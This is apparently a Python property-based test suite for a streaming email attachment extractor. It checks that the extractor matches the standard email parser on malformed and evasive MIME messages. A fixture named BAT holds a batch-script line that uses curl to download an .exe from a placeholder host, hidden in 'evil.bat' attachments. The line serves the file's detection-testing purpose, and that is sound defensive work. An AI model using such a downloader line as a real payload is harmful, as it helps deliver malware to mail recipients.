"""The streaming walker finds exactly the parts the standard ``email`` package finds, on generated messages
(odd folding, whitespace after boundaries, bare CR and LF, digests, broken encodings, huge header blocks),
also when it reads them in tiny pieces."""

from __future__ import annotations

import base64
import binascii
import contextlib
import io
import json
import quopri
import subprocess
import sys
from email.message import Message
from email.parser import BytesParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailowl.mail import decode, lines, parts
from mailowl.mail.parts import MailLimits, extract

_UNLIMITED = MailLimits(max_depth=10_000, max_parts=10**9, max_total_size=2**40, max_header_size=2**40)


def reference(raw: bytes, include_bodies: bool = True) -> list[tuple[str | None, str, str | None, bytes]]:
    """What the ``email`` package finds, put through the same naming, TNEF and uuencode steps."""
    walker = parts._Walker(lines.Lines(io.BytesIO(b"")), _UNLIMITED, include_bodies, None)

    def walk(msg: Message) -> None:
        if msg.is_multipart():
            for sub in msg.get_payload():
                walk(sub)
            return
        ctype, disposition, filename = parts._describe(msg)
        payload = msg.get_payload(decode=True)
        walker.emit(payload if isinstance(payload, bytes) else b"", ctype, disposition, filename, [])

    walk(BytesParser(policy=parts._POLICY).parsebytes(raw))
    return [(p.filename, p.content_type, p.disposition, p.content) for p in walker.out.parts]


def streamed(raw: bytes, include_bodies: bool = True) -> list[tuple[str | None, str, str | None, bytes]]:
    out = extract(io.BytesIO(raw), _UNLIMITED, include_bodies)
    assert not out.incomplete, out.findings
    return [(p.filename, p.content_type, p.disposition, p.content) for p in out.parts]


def tiny_pieces() -> contextlib.AbstractContextManager[pytest.MonkeyPatch]:
    """Read and decode in pieces of a few bytes, so every edge case lands on a piece boundary somewhere."""
    patch = pytest.MonkeyPatch.context()
    monkeypatch = patch.__enter__()
    monkeypatch.setattr(lines, "PIECE", 7)
    monkeypatch.setattr(lines, "_SCAN", 5)
    monkeypatch.setattr(parts, "_CHUNK", 3)
    monkeypatch.setattr(decode, "_QP_HOLD", 4)
    return patch


# generated messages --------------------------------------------------------------------------------------
_EOL = st.sampled_from(["\r\n", "\n", "\r", "\r\n", "\r\n"])
_BOUNDARY = st.sampled_from(["b", "B", "=_1", "a b", "b--", "x" * 80]) | st.text(
    alphabet="abAB01=_-.+ ", min_size=1, max_size=12)
_NAME = st.sampled_from(["evil.bat", "a.exe", "Rechnung März.docm", "../x/y.js", "=?utf-8?Q?na=C3=AFve.doc?=",
                         "=?x-bogus?Q?=ff?=", "winmail.dat", ""])
_BYTES = st.binary(max_size=300) | st.sampled_from([b"", b"MZ\x90\x00" * 40, b"x\r\ny\rz\n" * 5,
                                                   b"begin 644 a.bin\n#86)C\n`\nend\n"])
_CTE = st.sampled_from(["base64", "quoted-printable", "x-uuencode", "7bit", "8bit", "binary", "", " Base64 ",
                        "bogus"])


def _encode(content: bytes, cte: str, eol: str, damage: int) -> str:
    name = cte.strip().lower()
    if name == "base64":
        text = base64.encodebytes(content).decode().replace("\n", eol)
    elif name == "quoted-printable":
        text = quopri.encodestring(content).decode("latin-1").replace("\n", eol)
    elif name == "x-uuencode":
        lines_ = [binascii.b2a_uu(content[i:i + 45]).decode().rstrip("\n") for i in range(0, len(content), 45)]
        text = eol.join(["begin 644 u.bin", *lines_, "`", "end"]) + eol
    else:
        text = content.decode("latin-1")
    if damage and text:
        cut = damage % (len(text) + 1)
        text = text[:cut] + ["!", "=", "==", " ", "=\r", "\t", "é", ""][damage % 8] + text[cut:]
    return text


@st.composite
def headers(draw: st.DrawFn, ctype: str, eol: str) -> str:
    out = []
    if draw(st.booleans()):
        out.append(f"Content-Type: {ctype}{eol}")
    else:  # folded, with the parameters on their own lines
        head, _, params = ctype.partition(";")
        out.append(f"Content-Type: {head};{eol}\t{params.strip() or 'charset=us-ascii'}{eol}")
    name = draw(_NAME)
    style = draw(st.integers(0, 5))
    if style == 1:
        out.append(f'Content-Disposition: attachment; filename="{name}"{eol}')
    elif style == 2:
        out.append(f'Content-Disposition: attachment;{eol}\tfilename="{name}"{eol}')
    elif style == 3:
        out.append(f"Content-Disposition: inline;{eol} filename*=UTF-8''{name.replace(' ', '%20')}{eol}")
    elif style == 4:
        out.append(f'Content-Disposition: attachment; filename="{name}"{eol}X-Long: {"y" * 3000}{eol}')
    if draw(st.booleans()):
        out.append(f"X-Filler: {draw(st.text(alphabet='ab :;=-', max_size=30))}{eol}")
    return "".join(out)


@st.composite
def entity(draw: st.DrawFn, depth: int = 0) -> str:
    eol = draw(_EOL)
    kind = draw(st.sampled_from(["leaf", "leaf", "leaf", "multipart", "rfc822", "digest", "status", "raw"]
                                if depth < 3 else ["leaf", "raw"]))
    if kind == "raw":  # no MIME headers at all, or a body line among the headers
        return draw(st.sampled_from(["", eol, f"no header{eol}body{eol}", f"From x{eol}{eol}b",
                                     f"A: 1{eol}From y{eol}{eol}body"]))
    if kind == "leaf":
        cte = draw(_CTE)
        ctype = draw(st.sampled_from(["application/octet-stream", "text/plain", "text/html", "image/png",
                                      "multipart/mixed", "application/ms-tnef", "bogus"]))
        body = _encode(draw(_BYTES), cte, eol, draw(st.integers(0, 3) | st.integers(0, 400)))
        cte_header = f"Content-Transfer-Encoding: {cte}{eol}" if cte else ""
        return draw(headers(ctype, eol)) + cte_header + eol + body
    if kind == "rfc822":
        inner = draw(entity(depth + 1))
        return f"Content-Type: message/rfc822{eol}{eol}" + inner
    if kind == "status":
        return (f"Content-Type: message/delivery-status{eol}{eol}Reporting-MTA: dns; x{eol}{eol}"
                f"Final-Recipient: rfc822; a@b{eol}Action: failed{eol}" + draw(st.sampled_from(["", eol, eol * 2])))
    boundary = draw(_BOUNDARY)
    sub = "digest" if kind == "digest" else draw(st.sampled_from(["mixed", "alternative", "related"]))
    children = draw(st.lists(entity(depth + 1), min_size=0, max_size=4))
    out = [f'Content-Type: multipart/{sub}; boundary="{boundary}"{eol}{eol}']
    out.append(draw(st.sampled_from(["", f"preamble{eol}", f"--notours{eol}", f"{eol}{eol}"])))
    for child in children:
        ws = draw(st.sampled_from(["", "", " ", " \t ", "--"[:0]]))
        out.append(f"--{boundary}{ws}{eol}")
        if draw(st.integers(0, 9)) == 0:
            out.append(f"--{boundary}{eol}")  # a repeated boundary line
        out.append(child)
        out.append(draw(st.sampled_from([eol, eol, "", eol * 2])))
    ending = draw(st.sampled_from(["close", "close", "close", "none", "close-ws"]))
    if ending == "close":
        out.append(f"--{boundary}--{eol}")
    elif ending == "close-ws":
        out.append(f"--{boundary}--  {eol}epilogue{eol}")
    return "".join(out)


@st.composite
def messages(draw: st.DrawFn) -> bytes:
    eol = draw(_EOL)
    top = f"From: a@example.org{eol}To: b@example.net{eol}Subject: t{eol}MIME-Version: 1.0{eol}"
    text = top + draw(entity())
    raw = text.encode("utf-8", "surrogateescape")
    # byte-level damage: a stray boundary, a bare CR, a cut
    for spot, junk in draw(st.lists(st.tuples(st.integers(0, 10**6), st.sampled_from(
            [b"\r", b"\n", b"--", b"--b\r\n", b"--b--", b"=", b"\x00\xff", b""])), max_size=3)):
        cut = spot % (len(raw) + 1)
        raw = raw[:cut] + junk + raw[cut:]
    return raw


_SETTINGS = settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))


@given(messages())
@_SETTINGS
def test_parts_equal_the_email_packages(raw: bytes) -> None:
    assert streamed(raw) == reference(raw)
    assert streamed(raw, include_bodies=False) == reference(raw, include_bodies=False)


@given(messages())
@_SETTINGS
def test_parts_equal_the_email_packages_read_in_tiny_pieces(raw: bytes) -> None:
    expected = reference(raw)
    patch = tiny_pieces()
    try:
        assert streamed(raw) == expected
    finally:
        patch.__exit__(None, None, None)


@given(st.binary(max_size=2000))
@settings(max_examples=300, deadline=None)
def test_arbitrary_bytes(raw: bytes) -> None:
    assert streamed(raw) == reference(raw)


# the review's cases, one by one ----------------------------------------------------------------------------
BAT = b"@echo off\r\ncurl http://x.invalid/a.exe\r\n"


def _mail(body: bytes, head: bytes = b"", eol: bytes = b"\r\n") -> bytes:
    return (b"From: a@example.org" + eol + b"Subject: t" + eol + head + b"MIME-Version: 1.0" + eol
            + b'Content-Type: multipart/mixed; boundary="B"' + eol + eol + body)


@pytest.mark.parametrize("case", ["folded", "boundary-ws", "digest", "uuencode", "bare-lf"])
@pytest.mark.parametrize("padding", [0, 300_000])
def test_review_cases_do_not_depend_on_the_message_size(case: str, padding: int) -> None:
    filler = b"--B\r\nContent-Type: text/plain\r\n\r\n" + b"x" * 76 * (padding // 78) + b"\r\n"
    encoded = base64.encodebytes(BAT)
    if case == "folded":
        part = (b'--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n'
                b'\tfilename="evil.bat"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + encoded)
    elif case == "boundary-ws":
        part = b'--B \r\nContent-Disposition: attachment; filename="evil.bat"\r\n\r\n' + BAT
    elif case == "digest":
        part = (b'--B\r\nContent-Type: multipart/digest; boundary="D"\r\n\r\n--D\r\n\r\n'
                b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="evil.bat"'
                b'\r\n\r\n' + BAT + b"\r\n--D--\r\n")
    elif case == "uuencode":
        part = (b'--B\r\nContent-Type: application/octet-stream; name="evil.bat"\r\n'
                b"Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 evil.bat\r\n"
                + binascii.b2a_uu(BAT).replace(b"\n", b"\r\n") + b"`\r\nend\r\n")
    else:
        part = b'--B\nContent-Disposition: attachment; filename="evil.bat"\n\n' + BAT.replace(b"\r\n", b"\n")
    raw = _mail(filler + part + b"\r\n--B--\r\n")
    found = [p for p in extract(raw).parts if p.filename == "evil.bat"]
    assert len(found) == 1
    expected = BAT.replace(b"\r\n", b"\n") if case == "bare-lf" else BAT
    assert found[0].content == expected
    assert streamed(raw) == reference(raw)


def test_a_header_block_over_a_megabyte_is_read_whole() -> None:
    head = b"".join(b"X-Pad-%d: " % i + b"y" * 60_000 + b"\r\n" for i in range(20))
    raw = _mail(b'--B\r\nContent-Disposition: attachment; filename="evil.bat"\r\n\r\n' + BAT + b"\r\n--B--\r\n",
                head=head)
    out = extract(raw)
    assert [p.filename for p in out.parts] == ["evil.bat"]
    assert streamed(raw) == reference(raw)


def test_header_blocks_beyond_the_budget_make_the_message_unparsable() -> None:
    head = b"".join(b"X-Pad-%d: " % i + b"y" * 60_000 + b"\r\n" for i in range(20))
    out = extract(_mail(b"--B\r\n\r\nx\r\n--B--\r\n", head=head), MailLimits(max_header_size=2**20))
    assert out.incomplete
    assert "header blocks larger than 1048576 bytes" in out.findings[-1]


def test_one_header_line_beyond_the_budget_is_unparsable_without_reading_it_whole() -> None:
    raw = b"Subject: " + b"z" * 5_000_000 + b"\r\n\r\nbody"
    out = extract(raw, MailLimits(max_header_size=2**20))
    assert out.incomplete


@pytest.mark.parametrize(("limits", "why"), [
    (MailLimits(max_parts=3), "more than 3 parts"),
    (MailLimits(max_total_size=1000), "decoded parts exceed 1000 bytes"),
    (MailLimits(max_depth=2), "nested deeper than 2 levels"),
])
def test_limits_are_budgets_for_the_whole_message(limits: MailLimits, why: str) -> None:
    # five attachments of 400 bytes, spread over three levels: no level alone exceeds a limit
    leaf = b'Content-Disposition: attachment; filename="a.bin"\r\n\r\n' + b"A" * 400 + b"\r\n"
    inner = (b'Content-Type: multipart/mixed; boundary="C"\r\n\r\n--C\r\n' + leaf + b"--C\r\n" + leaf
             + b"--C--\r\n")
    middle = (b'Content-Type: multipart/mixed; boundary="M"\r\n\r\n--M\r\n' + inner + b"--M\r\n" + leaf
              + b"--M--\r\n")
    raw = _mail(b"--B\r\n" + middle + b"--B\r\n" + leaf + b"--B\r\n" + leaf + b"--B--\r\n")
    assert len(extract(raw).parts) == 5
    out = extract(raw, limits)
    assert out.incomplete
    assert why in out.findings[-1]


def test_many_parts_stop_at_the_limit_early() -> None:
    raw = _mail(b"".join(b'--B\r\nContent-Disposition: attachment; filename="p"\r\n\r\nx\r\n'
                         for _ in range(100_000)) + b"--B--\r\n")
    seen: list[parts.Part] = []
    out = extract(raw, MailLimits(max_parts=1000), on_part=seen.append)
    assert out.incomplete and len(seen) == 1000


def test_inspect_streams_a_large_message_from_the_file(tmp_path: Path) -> None:
    """Peak memory of `mail inspect` stays within twice the largest decoded part plus 64 MiB."""
    part = 30 * 2**20
    path = tmp_path / "big.eml"
    block = base64.encodebytes(bytes(range(256)) * 222 + b"x" * 24).replace(b"\n", b"\r\n")  # 57,000 bytes
    with path.open("wb") as f:
        f.write(_mail(b""))
        for i in range(3):
            f.write(b'--B\r\nContent-Disposition: attachment; filename="p%d.bin"\r\n'
                    b"Content-Transfer-Encoding: base64\r\n\r\n" % i)
            for _ in range(part // 57_000):
                f.write(block)
        f.write(b"--B--\r\n")
    probe = ("import resource, subprocess, sys; out = subprocess.run(sys.argv[1:], capture_output=True, check=True)"
             "; sys.stdout.buffer.write(out.stdout); print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
    out = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "mailowl.cli", "mail", "inspect",
                          str(path)], capture_output=True, check=True).stdout.decode()
    report, _, peak = out.rpartition("}")
    summary = json.loads(report + "}")
    assert [p["filename"] for p in summary["parts"]] == ["p0.bin", "p1.bin", "p2.bin"]
    largest = max(p["size"] for p in summary["parts"])
    assert int(peak) * 1024 <= 2 * largest + 64 * 2**20
